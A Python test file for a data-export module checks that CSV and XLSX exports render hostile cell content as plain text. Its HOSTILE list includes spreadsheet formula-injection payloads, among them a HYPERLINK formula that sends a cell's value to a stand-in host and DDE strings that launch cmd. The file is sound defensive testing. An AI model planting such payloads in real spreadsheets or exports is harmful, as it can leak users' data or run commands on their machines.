"""What pages and lists may contain comes back as text; csv is safe to open in a spreadsheet."""

import io
from typing import Any

import pandas as pd
import pytest
from openpyxl.utils.escape import unescape

from core.db import Database
from core.export import csv, export
from tests.export.story import (
    content_of,
    every_format,
    job_with_report,
    new_job,
    new_lines,
    new_report,
    new_steps,
    read,
    table_of,
)

HOSTILE = [
    '=HYPERLINK("https://evil.test/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    'a "quoted", line;\nbreak\twith tab',
    "<r><t>raw</t></r>",
    "<r>&broken</r>",
    "_x0041_ and ]]> & <b>",
    "emoji 👩‍👩‍👧 ﷽ \u202e rtl",
    "nul \x00 and surrogate \ud800 and bell \x07",
    "  spaces  ",
    "https://example.com/looks-like-a-link",
    "123",
    "{=1+1}",
]


def stored(text: str) -> str:
    return text.replace("\x00", "\ufffd").replace("\ud800", "\ufffd" * 3)


def shown(text: str, format: str) -> str:
    """What a reader gets for the stored text."""
    if format == "csv":
        return f"'{text}" if text in HOSTILE[:5] else text
    if format == "xlsx":
        text = text.replace("\x07", "")
        return f" {text}" if text.startswith("<r>") else text
    return text


@every_format
def test_hostile_content_comes_back_as_text(database: Database, format: str):
    job_id = new_job(database, total=len(HOSTILE))
    steps = new_steps(database, job_id, len(HOSTILE))
    pairs = list(zip(steps, HOSTILE, strict=True))
    new_lines(database, job_id, [{"step_id": step, "input": text, "extra": {text: text}} for step, text in pairs])
    for step, text in pairs:
        new_report(database, job_id, step, text, title=text, tags=[text])
    found = read(database, job_id, format)
    expected = [shown(stored(text), format) for text in HOSTILE]
    if format == "xlsx":
        # Excel reads _x005F_ as an underscore (ECMA-376, ST_Xstring); openpyxl leaves that to its callers
        found = [{unescape(name): unescape_cell(value) for name, value in row.items()} for row in found]
    assert list(found[0])[: len(HOSTILE)] == expected
    for place, row in enumerate(found):
        values = [row[name] for name in (expected[place], "input", "title", "text")]
        assert values == [expected[place]] * 4
        assert row["tags"] == (expected[place] if format in {"csv", "xlsx"} else [expected[place]])


def unescape_cell(value: Any) -> Any:
    return unescape(value) if isinstance(value, str) else value


@pytest.mark.parametrize(
    "text", ["=1", "+1+1", "-x", "@a", "\tx", "\rx", "\nx", " =1", "\ufeff=1", "＋1", "－1", "＠a", "-1;2", "+34 911"]
)
def test_csv_neutralises_what_may_be_a_formula(text: str):
    assert csv.neutral(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-5", "+3.14", "-1,5", "1e5", "-2E-7", "+34911234567", "a=b", "1-2", "", "x@y.test"])
def test_csv_leaves_numbers_telephones_and_other_text(text: str):
    assert csv.neutral(text) == text


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_csv_is_for_excel_and_rfc_4180(database: Database, separator: str):
    job_id = job_with_report(database, title='a,b;c\td"e"\nf')
    data = content_of(export(database, job_id, format="csv", separator=separator))
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\xef\xbb\xbf") == 1
    assert data.endswith(b"\r\n")
    (row,) = table_of(data, separator)
    assert row["title"] == 'a,b;c\td"e"\nf'
    assert len(pd.read_csv(io.BytesIO(data), sep=separator)) == 1
